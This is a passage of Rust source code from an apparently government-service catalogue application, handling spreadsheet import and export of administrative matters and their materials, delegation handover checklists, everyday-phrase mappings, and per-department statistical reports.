    let complaint_phone = r.cell("监督投诉电话").to_owned();
    let special_procedures = r.many("特别程序", SpecialProcedure::parse_cell);
    let result_name = r.cell("审批结果名称").to_owned();
    let disposition_kind = match r.cell("改革处置") {
        "" => Some(DispositionKind::Retain),
        v => {
            let k = DispositionKind::parse(v);
            if k.is_none() {
                r.fail("改革处置", "unknown_value");
            }
            k
        }
    };
    let note = r.cell("处置说明").to_owned();
    let delegate_to = Some(r.cell("下放至").to_owned()).filter(|p| !p.is_empty());
    let life_events = catalog::split_list(r.cell("生活事件"));
    let apply_count = match r.cell("年办件量") {
        "" => Some(0),
        v => match v.parse::<i64>() {
            Ok(n) if n >= 0 => Some(n),
            _ => {
                r.fail("年办件量", "not_a_number");
                None
            }
        },
    };
    if r.errors.len() > before {
        return None;
    }
    let doc = MatterDoc {
        name,
        kind: kind?,
        tier: tier?,
        level: level?,
        body_nature: body_nature?,
        audiences,
        legal_basis,
        conditions,
        statutory_days: statutory_days?,
        promised_days,
        case_type: case_type?,
        fee,
        process_key,
        trips: trips?,
        trips_reason,
        online_depth: online_depth?,
        fully_online: fully_online?,
        handling_forms,
        place,
        hours,
        consult_phone,
        complaint_phone,
        special_procedures,
        result_name,
        disposition: Disposition {
            kind: disposition_kind?,
            note,
            delegate_to,
        },
        life_events,
        materials: Vec::new(),
        form: Vec::new(),
    };
    Some(ParsedMatter {
        line,
        code,
        parent_code,
        department_code,
        doc,
        apply_count: apply_count?,
    })
}

fn parse_material_row(
    line: usize,
    cells: &[String],
    index: &HashMap<String, usize>,
    errors: &mut Vec<ImportError>,
) -> Option<(String, Material)> {
    let before = errors.len();
    let mut r = RowReader {
        sheet: "材料",
        line,
        cells,
        index,
        errors,
    };
    let code = r.required("事项编码");
    let name = r.required("材料名称");
    let form = r.one("材料形式", MaterialForm::parse);
    let copies = r.number("份数", false);
    let necessity = r.one("必要性", Necessity::parse);
    let condition = r.cell("条件说明").to_owned();
    let source = r.one("来源渠道", MaterialSource::parse);
    let has = |v: &str| v == "有";
    let blank_form = has(r.cell("空白表格"));
    let sample = has(r.cell("示例样表"));
    for h in ["空白表格", "示例样表"] {
        if !matches!(r.cell(h), "" | "有" | "无") {
            r.fail(h, "unknown_value");
        }
    }
    // Optional columns: which materials the window may accept missing (容缺) or a signed
    // commitment may replace (告知承诺); a sheet without them reads as neither.
    let yes = |v: &str| v == "是";
    let deferrable = yes(r.cell("容缺受理"));
    let by_commitment = yes(r.cell("告知承诺"));
    for h in ["容缺受理", "告知承诺"] {
        if !matches!(r.cell(h), "" | "是" | "否") {
            r.fail(h, "unknown_value");
        }
    }
    if r.errors.len() > before {
        return None;
    }
    Some((
        code,
        Material {
            name,
            form: form?,
            copies: copies?,
            necessity: necessity?,
            condition,
            source: source?,
            blank_form,
            sample,
            blank_form_file: None,
            sample_file: None,
            deferrable,
            by_commitment,
        },
    ))
}

/// Whether an import publishes what it reads (the operator's load, effective today) or
/// leaves it as drafts in review for a reviewer (a keeper's upload).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ImportMode {
    Publish,
    ForReview,
}

impl UseCases<'_> {
    /// Imports the catalogue from its two sheets. Everything is checked first; on any
    /// problem the answer is the list of them and nothing is written. Otherwise one
    /// transaction adds the new matters and a new version of each changed one.
    pub async fn import_catalog(
        &self,
        ctx: AuditCtx,
        matters: &Sheet,
        materials: &Sheet,
        mode: ImportMode,
    ) -> ServiceResult<Result<ImportSummary, Vec<ImportError>>> {
        self.import_catalog_with_forms(ctx, matters, materials, &HashMap::new(), mode)
            .await
    }

    /// [`UseCases::import_catalog`] with the application forms of some matters, by code (the
    /// demo catalogue ships forms for the matters its applications use).
    pub async fn import_catalog_with_forms(
        &self,
        ctx: AuditCtx,
        matters: &Sheet,
        materials: &Sheet,
        forms: &HashMap<String, Vec<fgf_domain::catalog::FormField>>,
        mode: ImportMode,
    ) -> ServiceResult<Result<ImportSummary, Vec<ImportError>>> {
        let mut errors = Vec::new();
        missing_headers("事项", &matters.headers, &MATTER_HEADERS, &mut errors);
        missing_headers(
            "材料",
            &materials.headers,
            &MATERIAL_HEADERS[..REQUIRED_MATERIAL_HEADERS],
            &mut errors,
        );
        if !errors.is_empty() {
            return Ok(Err(errors));
        }
        // The text rules of the web edge hold for a file as well, whichever way it came.
        for (sheet, table) in [("事项", matters), ("材料", materials)] {
            for (line, cells) in &table.rows {
                for (header, cell) in table.headers.iter().zip(cells) {
                    let code = if fgf_domain::text::has_forbidden_char(cell) {
                        "cell_invalid_chars"
                    } else if cell.chars().count() > fgf_domain::text::LONG_MAX {
                        "cell_too_long"
                    } else {
                        continue;
                    };
                    errors.push(row_error(sheet, *line, header, code, None));
                }
            }
        }
        if !errors.is_empty() {
            return Ok(Err(errors));
        }
        let mi = column_index(&matters.headers);
        let ti = column_index(&materials.headers);
        let kinds = self.base().matter_kinds().await?;
        let mut parsed: Vec<ParsedMatter> = matters
            .rows
            .iter()
            .filter_map(|(line, cells)| parse_matter_row(*line, cells, &mi, &kinds, &mut errors))
            .collect();
        // Codes are unique in the file.
        let mut lines_of: HashMap<String, usize> = HashMap::new();
        for p in &parsed {
            if let Some(first) = lines_of.insert(p.code.clone(), p.line) {
                errors.push(row_error(
                    "事项",
                    p.line,
                    "事项编码",
                    "code_duplicate",
                    Some(first),
                ));
            }
        }
        // Materials go to their matter.
        let mut by_code: HashMap<String, Vec<Material>> = HashMap::new();
        let mut material_count = 0;
        for (line, cells) in &materials.rows {
            if let Some((code, m)) = parse_material_row(*line, cells, &ti, &mut errors) {
                if !lines_of.contains_key(&code) {
                    errors.push(row_error(
                        "材料",
                        *line,
                        "事项编码",
                        "material_matter_unknown",
                        None,
                    ));
                    continue;
                }
                material_count += 1;
                by_code.entry(code).or_default().push(m);
            }
        }
        for p in &mut parsed {
            p.doc.materials = by_code.remove(&p.code).unwrap_or_default();
            if let Some(f) = forms.get(&p.code) {
                p.doc.form = f.clone();
            }
        }
        // The references: departments, parents (in the file or the store), processes.
        let departments: HashMap<String, DepartmentId> = self
            .store()
            .all_departments()
            .await?
            .into_iter()
            .map(|d| (d.code, d.id))
            .collect();
        let tiers_in_file: HashMap<String, Tier> = parsed
            .iter()
            .map(|p| (p.code.clone(), p.doc.tier))
            .collect();
        let existing: HashMap<String, MatterRow> = self
            .store()
            .all_matters()
            .await?
            .into_iter()
            .map(|m| (m.code.clone(), m))
            .collect();
        let mut processes: HashMap<String, bool> = HashMap::new();
        for p in &parsed {
            let mut fail = |header: &str, code: &str| {
                errors.push(row_error("事项", p.line, header, code, None));
            };
            if let Some(c) = catalog::code_problem(&p.code) {
                fail("事项编码", c);
            }
            for problem in catalog::problems(&p.doc) {
                fail(header_of(problem.field), problem.code);
            }
            if !departments.contains_key(&p.department_code) {
                fail("实施部门编码", "department_unknown");
            }
            if let Some(to) = &p.doc.disposition.delegate_to {
                if !departments.contains_key(to) {
                    fail("下放至", "delegate_to_unknown");
                }
            }
            let parent_tier = match &p.parent_code {
                None => None,
                Some(pc) if pc == &p.code => {
                    fail("上级事项编码", "parent_is_self");
                    continue;
                }
                Some(pc) => match tiers_in_file
                    .get(pc)
                    .copied()
                    .or_else(|| existing.get(pc).map(|m| m.tier))
                {
                    Some(t) => Some(t),
                    None => {
                        fail("上级事项编码", "parent_unknown");
                        continue;
                    }
                },
            };
            if !p.doc.tier.fits_under(parent_tier) {
                fail("事项层级", "tier_does_not_fit_parent");
            }
            if let Some(key) = &p.doc.process_key {
                let known = match processes.get(key) {
                    Some(k) => *k,
                    None => {
                        let k = self.store().latest_process_definition(key).await?.is_some();
                        processes.insert(key.clone(), k);
                        k
                    }
                };
                if !known {
                    errors.push(row_error(
                        "事项",
                        p.line,
                        "流程定义",
                        "process_unknown",
                        None,
                    ));
                }
            }
        }
        if !errors.is_empty() {
            errors.sort_by(|a, b| (a.sheet, a.row).cmp(&(b.sheet, b.row)));
            return Ok(Err(errors));
        }
        // Parents before children, so every parent id is known when a child is written.
        parsed.sort_by_key(|p| match p.doc.tier {
            Tier::Main => 0,
            Tier::Sub => 1,
            Tier::Item => 2,
        });
        let today = today(self);
        let mut summary = ImportSummary {
            matters: parsed.len(),
            materials: material_count,
            ..ImportSummary::default()
        };
        let mut ids: HashMap<String, MatterId> =
            existing.iter().map(|(c, m)| (c.clone(), m.id)).collect();
        let mut tx = self.store().write(ctx).await?;
        for p in &parsed {
            let department_id = departments[&p.department_code];
            let parent_id = p.parent_code.as_ref().and_then(|c| ids.get(c).copied());
            // The sheets carry no form: a matter the file leaves without one keeps the form
            // of its version in force, so an import never drops what the keeper defined.
            let mut doc = p.doc.clone();
            if doc.form.is_empty() && !forms.contains_key(&p.code) {
                if let Some(cur) = existing
                    .get(&p.code)
                    .and_then(|m| m.current_version.map(|v| (m.id, v)))
                {
                    let v = self.store().matter_version(cur.0, cur.1).await?;
                    if let Ok(old) = serde_json::from_str::<MatterDoc>(&v.doc) {
                        doc.form = old.form;
                    }
                }
            }
            let doc_json = serde_json::to_string(&doc).map_err(ServiceError::internal)?;
            let (status, in_force) = match mode {
                ImportMode::Publish => (VersionStatus::Published, true),
                ImportMode::ForReview => (VersionStatus::InReview, false),
            };
            let m = match existing.get(&p.code) {
                Some(m) => {
                    if let Some(cur) = m.current_version {
                        let v = self.store().matter_version(m.id, cur).await?;
                        if v.doc == doc_json
                            && m.parent_id == parent_id
                            && m.department_id == department_id
                        {
                            summary.unchanged += 1;
                            if m.apply_count != p.apply_count {
                                tx.set_apply_count(m.id, p.apply_count).await?;
                            }
                            continue;
                        }
                    }
                    if tx.open_matter_version(m.id).await?.is_some() {
                        tx.rollback().await?;
                        return Ok(Err(vec![row_error(
                            "事项",
                            p.line,
                            "事项编码",
                            "matter_in_review",
                            None,
                        )]));
                    }
                    summary.new_versions += 1;
                    m.clone()
                }
                None => {
                    let s = MatterSummary {
                        apply_count: Some(p.apply_count),
                        ..self::summary(&p.doc, parent_id, department_id)
                    };
                    let id = tx.insert_matter(&p.code, &s).await?;
                    ids.insert(p.code.clone(), id);
                    summary.created += 1;
                    MatterRow {
                        id,
                        code: p.code.clone(),
                        parent_id,
                        department_id,
                        name: p.doc.name.clone(),
                        kind: p.doc.kind.code().to_owned(),
                        tier: p.doc.tier,
                        current_version: None,
                        apply_count: p.apply_count,
                        created_at_ms: tx.now_ms(),
                        updated_at_ms: tx.now_ms(),
                    }
                }
            };
            let number = tx
                .insert_matter_version(m.id, status, &doc_json, "导入", in_force.then_some(today))
                .await?;
            if in_force {
                let v = MatterVersionRow {
                    id: 0,
                    matter_id: m.id,
                    version: number,
                    status: VersionStatus::Published,
                    doc: doc_json.clone(),
                    note: String::new(),
                    drafted_by: None,
                    drafted_at_ms: 0,
                    reviewed_by: None,
                    reviewed_at_ms: None,
                    review_comment: String::new(),
                    effective_date: Some(today),
                };
                let m = MatterRow {
                    parent_id,
                    department_id,
                    ..m
                };
                // The count goes into the same update as the version: one batch must not
                // write the matter row twice (PostgreSQL runs it on one snapshot).
                self.put_in_force(&mut tx, &m, &v, &p.doc, false, Some(p.apply_count))
                    .await?;
            } else if m.apply_count != p.apply_count {
                tx.set_apply_count(m.id, p.apply_count).await?;
            }
        }
        // One message for the whole import: the index rebuilds rather than applying thousands.
        tx.outbox("catalog.rebuild", &json!({ "matters": summary.matters }))
            .await?;
        tx.audit(
            "catalog.import",
            "catalog",
            "all",
            &[FieldChange {
                field: "import".to_owned(),
                before: None,
                after: Some(json!(summary)),
            }],
        )
        .await?;
        tx.commit().await?;
        Ok(Ok(summary))
    }

    /// The catalogue in force as its two sheets.
    pub async fn export_catalog(self) -> ServiceResult<(Sheet, Sheet)> {
        let rows = self.store().matters_in_force().await?;
        let kinds = self.base().matter_kinds().await?;
        let departments: HashMap<DepartmentId, String> = self
            .store()
            .all_departments()
            .await?
            .into_iter()
            .map(|d| (d.id, d.code))
            .collect();
        let codes: HashMap<MatterId, String> =
            rows.iter().map(|(m, _)| (m.id, m.code.clone())).collect();
        let mut matters = Sheet {
            headers: MATTER_HEADERS
                .iter()
                .chain(OPTIONAL_MATTER_HEADERS.iter())
                .map(|h| (*h).to_owned())
                .collect(),
            rows: Vec::new(),
        };
        let mut materials = Sheet {
            headers: MATERIAL_HEADERS.iter().map(|h| (*h).to_owned()).collect(),
            rows: Vec::new(),
        };
        let join = |v: Vec<&str>| v.join("、");
        for (m, v) in &rows {
            let d = parse_doc(v)?;
            let yes = |b: bool| if b { "是" } else { "否" }.to_owned();
            matters.rows.push((
                matters.rows.len() + 2,
                vec![
                    m.code.clone(),
                    m.parent_id
                        .and_then(|p| codes.get(&p).cloned())
                        .unwrap_or_default(),
                    d.tier.label_zh().to_owned(),
                    d.name.clone(),
                    kinds.label_zh(&d.kind),
                    departments
                        .get(&m.department_id)
                        .cloned()
                        .unwrap_or_default(),
                    d.level.label_zh().to_owned(),
                    join(d.audiences.iter().map(|a| a.label_zh()).collect()),
                    d.legal_basis.join("；"),
                    d.conditions.clone(),
                    d.statutory_days.to_string(),
                    d.promised_days.map(|p| p.to_string()).unwrap_or_default(),
                    d.case_type.label_zh().to_owned(),
                    yes(d.fee.is_some()),
                    d.fee
                        .as_ref()
                        .map(|f| f.standard.clone())
                        .unwrap_or_default(),
                    d.fee.as_ref().map(|f| f.basis.clone()).unwrap_or_default(),
                    d.process_key.clone().unwrap_or_default(),
                    d.trips.to_string(),
                    d.trips_reason.clone(),
                    d.online_depth.label_zh().to_owned(),
                    yes(d.fully_online),
                    join(d.handling_forms.iter().map(|f| f.label_zh()).collect()),
                    d.place.clone(),
                    d.hours.clone(),
                    d.consult_phone.clone(),
                    d.complaint_phone.clone(),
                    join(d.special_procedures.iter().map(|s| s.label_zh()).collect()),
                    d.result_name.clone(),
                    d.disposition.kind.label_zh().to_owned(),
                    d.disposition.note.clone(),
                    d.disposition.delegate_to.clone().unwrap_or_default(),
                    d.life_events.join("、"),
                    m.apply_count.to_string(),
                    d.body_nature.label_zh().to_owned(),
                ],
            ));
            for mat in &d.materials {
                materials.rows.push((
                    materials.rows.len() + 2,
                    vec![
                        m.code.clone(),
                        mat.name.clone(),
                        mat.form.label_zh().to_owned(),
                        mat.copies.to_string(),
                        mat.necessity.label_zh().to_owned(),
                        mat.condition.clone(),
                        mat.source.label_zh().to_owned(),
                        if mat.blank_form { "有" } else { "无" }.to_owned(),
                        if mat.sample { "有" } else { "无" }.to_owned(),
                        yes(mat.deferrable),
                        yes(mat.by_commitment),
                    ],
                ));
            }
        }
        Ok((matters, materials))
    }
}

fn row_error(
    sheet: &'static str,
    row: usize,
    column: &str,
    code: &str,
    first_line: Option<usize>,
) -> ImportError {
    let mut reason = i18n::t(Lang::Zh, &format!("catalog.{code}")).to_owned();
    if let Some(l) = first_line {
        reason = reason.replace("{0}", &l.to_string());
    }
    ImportError {
        sheet,
        row,
        column: column.to_owned(),
        code: code.to_owned(),
        reason,
    }
}

// ---------------------------------------------------------------------------------------------
// Delegation handovers (下放承接)

/// What the receiving unit confirms before a delegated matter switches over to it: the cure
/// for 接权不同步 (powers delegated before the receiver is ready).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct Checklist {
    /// The staff who will handle it, by name.
    #[serde(default)]
    pub staff_named: String,
    #[serde(default)]
    pub staff_trained: bool,
    #[serde(default)]
    pub process_bound: bool,
    #[serde(default)]
    pub guide_published: bool,
    /// The unit that supervises it after the switch.
    #[serde(default)]
    pub supervisor: String,
}

impl Checklist {
    /// The items still open, by their catalogue key.
    pub fn open_items(&self) -> Vec<&'static str> {
        let mut out = Vec::new();
        if self.staff_named.trim().is_empty() {
            out.push("handover.staff_named");
        }
        if !self.staff_trained {
            out.push("handover.staff_trained");
        }
        if !self.process_bound {
            out.push("handover.process_bound");
        }
        if !self.guide_published {
            out.push("handover.guide_published");
        }
        if self.supervisor.trim().is_empty() {
            out.push("handover.supervisor");
        }
        out
    }
}

/// A handover as the report shows it.
#[derive(Debug, Clone, Serialize)]
pub struct HandoverView {
    pub id: i64,
    pub matter_code: String,
    pub matter_name: String,
    pub from_department: String,
    pub to_department: String,
    #[serde(skip)]
    pub to_department_id: DepartmentId,
    /// pending (待承接) | switched | withdrawn
    pub state: HandoverState,
    pub checklist: Checklist,
    /// Calendar days since the delegation was published (to the switch, once switched).
    pub days_waiting: i64,
    /// Whether the caller may confirm it (it acts for the receiving unit).
    pub can_confirm: bool,
}

impl UseCases<'_> {
    /// Every delegation by state and age: the handover report.
    pub async fn handover_report(self, actor: &Actor) -> ServiceResult<Vec<HandoverView>> {
        actor.scope(Permission::Workbench)?;
        let mut views = self.handover_views().await?;
        if let Ok(scope) = actor.scope(Permission::CatalogDraft) {
            for v in views
                .iter_mut()
                .filter(|v| v.state == HandoverState::Pending)
            {
                v.can_confirm = self
                    .store()
                    .get_department(&scope, v.to_department_id)
                    .await
                    .is_ok();
            }
        }
        Ok(views)
    }

    pub(crate) async fn handover_views(self) -> ServiceResult<Vec<HandoverView>> {
        let names: HashMap<DepartmentId, String> = self
            .store()
            .all_departments()
            .await?
            .into_iter()
            .map(|d| (d.id, d.name))
            .collect();
        let now = self.now_ms();
        let mut out = Vec::new();
        for h in self.store().handovers().await? {
            let m = self.store().get_matter(h.matter_id).await?;
            let end = h.switched_at_ms.unwrap_or(now);
            out.push(HandoverView {
                id: h.id,
                matter_code: m.code,
                matter_name: m.name,
                to_department_id: h.to_department_id,
                from_department: names
                    .get(&h.from_department_id)
                    .cloned()
                    .unwrap_or_default(),
                to_department: names.get(&h.to_department_id).cloned().unwrap_or_default(),
                state: h.state,
                checklist: serde_json::from_str(&h.checklist).unwrap_or_default(),
                days_waiting: (end - h.created_at_ms).max(0) / 86_400_000,
                can_confirm: false,
            });
        }
        out.sort_by(|a, b| {
            (
                a.state != HandoverState::Pending,
                std::cmp::Reverse(a.days_waiting),
            )
                .cmp(&(
                    b.state != HandoverState::Pending,
                    std::cmp::Reverse(b.days_waiting),
                ))
        });
        Ok(out)
    }

    /// The receiving unit records its readiness; with `switch`, the matter moves to it, which
    /// needs every item of the checklist confirmed.
    pub async fn confirm_handover(
        &self,
        actor: &Actor,
        id: i64,
        checklist: &Checklist,
        switch: bool,
    ) -> ServiceResult<()> {
        let scope = actor.scope(Permission::CatalogDraft)?;
        let h = self.store().get_handover(id).await?;
        // Only the receiving unit confirms its own readiness.
        self.store()
            .get_department(&scope, h.to_department_id)
            .await?;
        if switch {
            let open = checklist.open_items();
            // Every item still open, not the first: the unit fixes them in one go.
            if !open.is_empty() {
                let all: Vec<&str> = open.iter().map(|k| i18n::t(Lang::Zh, k)).collect();
                return Err(ServiceError::invalid("handover_not_ready")
                    .arg(all.join("、"))
                    .details(json!({ "open": open })));
            }
        }
        let mut tx = self.store().write(actor.audit_ctx(self.now_ms())).await?;
        let current = tx.load_handover(id).await?;
        if current.state != HandoverState::Pending {
            tx.rollback().await?;
            return Err(ServiceError::conflict("handover_closed"));
        }
        let text = serde_json::to_string(checklist).map_err(ServiceError::internal)?;
        let to = if switch {
            HandoverState::Switched
        } else {
            HandoverState::Pending
        };
        tx.update_handover(id, to, &text).await?;
        if switch {
            tx.set_matter_department(h.matter_id, h.to_department_id)
                .await?;
            tx.outbox("catalog.changed", &json!({ "matter_id": h.matter_id }))
                .await?;
        }
        let m = self.store().get_matter(h.matter_id).await?;
        tx.audit(
            if switch {
                "catalog.handover_switch"
            } else {
                "catalog.handover_confirm"
            },
            "matter",
            &m.code,
            &[FieldChange {
                field: "handover".to_owned(),
                before: Some(json!({ "state": current.state, "checklist": serde_json::from_str::<Value>(&current.checklist).unwrap_or_default() })),
                after: Some(json!({ "state": if switch { "switched" } else { "pending" }, "checklist": checklist })),
            }],
        )
        .await?;
        tx.commit().await?;
        Ok(())
    }
}

// ---------------------------------------------------------------------------------------------
// Everyday phrases (常用说法 → 事项)

impl UseCases<'_> {
    /// Maps everyday phrases to matters by code (`开饭店` → 食品经营许可…), in one transaction.
    pub async fn add_phrases(
        &self,
        ctx: AuditCtx,
        pairs: &[(String, String)],
    ) -> ServiceResult<usize> {
        let mut resolved = Vec::with_capacity(pairs.len());
        let mut seen = std::collections::HashSet::new();
        for (phrase, code) in pairs {
            let phrase = phrase.trim();
            if phrase.is_empty() || phrase.chars().count() > 50 {
                return Err(ServiceError::field(
                    "invalid_field",
                    "phrase",
                    "常用说法应为 1 至 50 个字",
                ));
            }
            let m = self
                .store()
                .find_matter(code.trim())
                .await?
                .ok_or_else(|| ServiceError::not_found("not_found").arg("matter").arg(code))?;
            // A pair given twice is one mapping: written twice, it would write one row twice
            // in the batch.
            if seen.insert((phrase.to_owned(), m.id)) {
                resolved.push((phrase.to_owned(), m.id));
            }
        }
        let mut tx = self.store().write(ctx).await?;
        for (phrase, id) in &resolved {
            tx.add_phrase(phrase, *id).await?;
        }
        let mut ids: Vec<MatterId> = resolved.iter().map(|(_, id)| *id).collect();
        ids.sort_unstable();
        ids.dedup();
        tx.outbox("catalog.changed", &json!({ "matter_ids": ids }))
            .await?;
        tx.audit(
            "catalog.phrases",
            "catalog",
            "phrases",
            &[FieldChange {
                field: "phrases".to_owned(),
                before: None,
                after: Some(json!(pairs)),
            }],
        )
        .await?;
        tx.commit().await?;
        Ok(resolved.len())
    }

    /// A keeper adds or removes one phrase of a matter.
    pub async fn edit_phrase(
        &self,
        actor: &Actor,
        phrase: &str,
        code: &str,
        add: bool,
    ) -> ServiceResult<()> {
        let scope = actor.scope(Permission::CatalogDraft)?;
        // A keeper edits the phrases of the matters their department keeps, as with drafts:
        // another department's matter answers as if it did not exist.
        let m = self
            .store()
            .find_matter(code.trim())
            .await?
            .ok_or_else(|| ServiceError::not_found("not_found").arg("matter").arg(code))?;
        self.store().get_department(&scope, m.department_id).await?;
        if add {
            self.add_phrases(
                actor.audit_ctx(self.now_ms()),
                &[(phrase.to_owned(), code.to_owned())],
            )
            .await?;
            return Ok(());
        }
        let mut tx = self.store().write(actor.audit_ctx(self.now_ms())).await?;
        tx.remove_phrase(phrase, m.id).await?;
        tx.outbox("catalog.changed", &json!({ "matter_id": m.id }))
            .await?;
        tx.audit(
            "catalog.phrase_remove",
            "matter",
            code,
            &[FieldChange {
                field: "phrase".to_owned(),
                before: Some(json!(phrase)),
                after: None,
            }],
        )
        .await?;
        tx.commit().await.map_err(|e| match e {
            StoreError::Conflict { .. } => ServiceError::not_found("not_found")
                .arg("phrase")
                .arg(phrase),
            other => other.into(),
        })?;
        Ok(())
    }
}

// ---------------------------------------------------------------------------------------------
// xlsx

/// The sheet names of the catalogue workbook.
pub const MATTERS_SHEET: &str = "事项";
pub const MATERIALS_SHEET: &str = "材料";

impl Sheet {
    /// Reads the named sheet of an xlsx workbook (numbers come back as written: `20`, not
    /// `20.0`).
    pub fn from_xlsx(bytes: &[u8], name: &str) -> Result<Sheet, String> {
        use calamine::Reader;
        // The reader's own wording stays out of the error, which reaches the keeper's page.
        let mut wb: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes))
                .map_err(|_: calamine::XlsxError| "不是有效的 xlsx 工作簿".to_owned())?;
        let range = wb
            .worksheet_range(name)
            .map_err(|_| format!("工作表“{name}”缺失或无法读取"))?;
        let mut rows = range.rows();
        let headers: Vec<String> = rows
            .next()
            .map(|r| r.iter().map(|c| c.to_string().trim().to_owned()).collect())
            .unwrap_or_default();
        let mut out = Vec::new();
        for (i, r) in rows.enumerate() {
            let cells: Vec<String> = r
                .iter()
                .map(|c| cell::restore(c.to_string().trim()).to_owned())
                .collect();
            if cells.iter().all(String::is_empty) {
                continue;
            }
            // Row 1 is the header; data starts on row 2.
            out.push((i + 2, cells));
        }
        Ok(Sheet { headers, rows: out })
    }
}

/// Writes sheets into one xlsx workbook, headers bold and frozen. Cells are text cells, which
/// a spreadsheet program does not evaluate, but they are guarded like CSV cells all the same
/// ([`cell::guard`]): editing such a cell, or saving the sheet as CSV, would make it live.
pub fn to_xlsx(sheets: &[(&str, &Sheet)]) -> Result<Vec<u8>, String> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    for (name, sheet) in sheets {
        let ws = wb.add_worksheet();
        ws.set_name(*name).map_err(|e| e.to_string())?;
        for (c, h) in sheet.headers.iter().enumerate() {
            let c = u16::try_from(c).map_err(|e| e.to_string())?;
            ws.write_string_with_format(0, c, cell::guard(h), &bold)
                .map_err(|e| e.to_string())?;
            ws.set_column_width(c, 14).map_err(|e| e.to_string())?;
        }
        ws.set_freeze_panes(1, 0).map_err(|e| e.to_string())?;
        for (r, (_, cells)) in sheet.rows.iter().enumerate() {
            let r = u32::try_from(r + 1).map_err(|e| e.to_string())?;
            for (c, v) in cells.iter().enumerate() {
                let c = u16::try_from(c).map_err(|e| e.to_string())?;
                ws.write_string(r, c, cell::guard(v))
                    .map_err(|e| e.to_string())?;
            }
        }
    }
    wb.save_to_buffer().map_err(|e| e.to_string())
}

// ---------------------------------------------------------------------------------------------
// Reports

/// One report: a title, column headers and rows of text, ready for a page, CSV or xlsx.
#[derive(Debug, Clone, Serialize)]
pub struct Report {
    pub key: &'static str,
    pub title: &'static str,
    pub sheet: Sheet,
}

impl Serialize for Sheet {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        let rows: Vec<&Vec<String>> = self.rows.iter().map(|(_, r)| r).collect();
        json!({ "headers": self.headers, "rows": rows }).serialize(s)
    }
}

fn pct(n: usize, d: usize) -> String {
    if d == 0 {
        "-".to_owned()
    } else {
        format!("{:.1}%", n as f64 * 100.0 / d as f64)
    }
}

fn sheet(headers: &[&str], rows: Vec<Vec<String>>) -> Sheet {
    Sheet {
        headers: headers.iter().map(|h| (*h).to_owned()).collect(),
        rows: rows
            .into_iter()
            .enumerate()
            .map(|(i, r)| (i + 2, r))
            .collect(),
    }
}

/// The report keys, in the order the reports page lists them.
pub const REPORT_KEYS: [&str; 4] = ["by_kind", "by_disposition", "service_depth", "compression"];

impl UseCases<'_> {
    /// The catalogue reports over the matters in force: matters by kind and department, by
    /// disposition, the share fully online and needing at most one trip, and promised against
    /// statutory time limits (the compression ratio), per department.
    pub async fn catalog_reports(self) -> ServiceResult<Vec<Report>> {
        let rows = self.store().matters_in_force().await?;
        let departments: HashMap<DepartmentId, String> = self
            .store()
            .all_departments()
            .await?
            .into_iter()
            .map(|d| (d.id, d.name))
            .collect();
        let mut docs = Vec::with_capacity(rows.len());
        for (m, v) in &rows {
            docs.push((m, parse_doc(v)?));
        }
        let mut by_dept: Vec<(String, Vec<&MatterDoc>)> = Vec::new();
        for (m, d) in &docs {
            let name = departments
                .get(&m.department_id)
                .cloned()
                .unwrap_or_default();
            match by_dept.iter_mut().find(|(n, _)| *n == name) {
                Some((_, v)) => v.push(d),
                None => by_dept.push((name, vec![d])),
            }
        }
        by_dept.sort_by(|a, b| a.0.cmp(&b.0));
        let all: Vec<&MatterDoc> = docs.iter().map(|(_, d)| d).collect();
        // Table A.1 and the district's own kinds, with any a matter in force still has after
        // the dictionary dropped it.
        let table = self.base().matter_kinds().await?;
        let mut kinds = table.choices();
        for d in &all {
            if !kinds.contains(&d.kind) {
                kinds.push(d.kind.clone());
            }
        }
        let labels: Vec<String> = kinds.iter().map(|k| table.label_zh(k)).collect();
        let mut kind_headers = vec!["部门"];
        kind_headers.extend(labels.iter().map(String::as_str));
        kind_headers.push("合计");
        let kind_row = |name: &str, ds: &[&MatterDoc]| {
            let mut r = vec![name.to_owned()];
            r.extend(
                kinds
                    .iter()
                    .map(|k| ds.iter().filter(|d| d.kind == *k).count().to_string()),
            );
            r.push(ds.len().to_string());
            r
        };
        let mut by_kind: Vec<Vec<String>> = by_dept.iter().map(|(n, ds)| kind_row(n, ds)).collect();
        by_kind.push(kind_row("全区", &all));
        let mut disp_headers = vec!["部门"];
        disp_headers.extend(DispositionKind::ALL.iter().map(|k| k.label_zh()));
        let disp_row = |name: &str, ds: &[&MatterDoc]| {
            let mut r = vec![name.to_owned()];
            r.extend(DispositionKind::ALL.iter().map(|k| {
                ds.iter()
                    .filter(|d| d.disposition.kind == *k)
                    .count()
                    .to_string()
            }));
            r
        };
        let mut by_disp: Vec<Vec<String>> = by_dept.iter().map(|(n, ds)| disp_row(n, ds)).collect();
        by_disp.push(disp_row("全区", &all));
        let depth_row = |name: &str, ds: &[&MatterDoc]| {
            let online = ds.iter().filter(|d| d.fully_online).count();
            let one = ds.iter().filter(|d| d.trips <= 1).count();
            let zero = ds.iter().filter(|d| d.trips == 0).count();
            vec![
                name.to_owned(),
                ds.len().to_string(),
                online.to_string(),
                pct(online, ds.len()),
                zero.to_string(),
                one.to_string(),
                pct(one, ds.len()),
            ]
        };
        let mut depth: Vec<Vec<String>> = by_dept.iter().map(|(n, ds)| depth_row(n, ds)).collect();
        depth.push(depth_row("全区", &all));
        let comp_row = |name: &str, ds: &[&MatterDoc]| {
            let with: Vec<&&MatterDoc> = ds.iter().filter(|d| d.statutory_days > 0).collect();
            let statutory: u32 = with.iter().map(|d| d.statutory_days).sum();
            let promised: u32 = with.iter().map(|d| d.promised_days.unwrap_or(0)).sum();
            let instant = ds
                .iter()
                .filter(|d| d.case_type == CaseType::Instant)
                .count();
            vec![
                name.to_owned(),
                with.len().to_string(),
                statutory.to_string(),
                promised.to_string(),
                if statutory == 0 {
                    "-".to_owned()
                } else {
                    format!(
                        "{:.1}%",
                        (1.0 - f64::from(promised) / f64::from(statutory)) * 100.0
                    )
                },
                instant.to_string(),
            ]
        };
        let mut comp: Vec<Vec<String>> = by_dept.iter().map(|(n, ds)| comp_row(n, ds)).collect();
        comp.push(comp_row("全区", &all));
        Ok(vec![
            Report {
                key: "by_kind",
                title: "事项类型分部门统计",
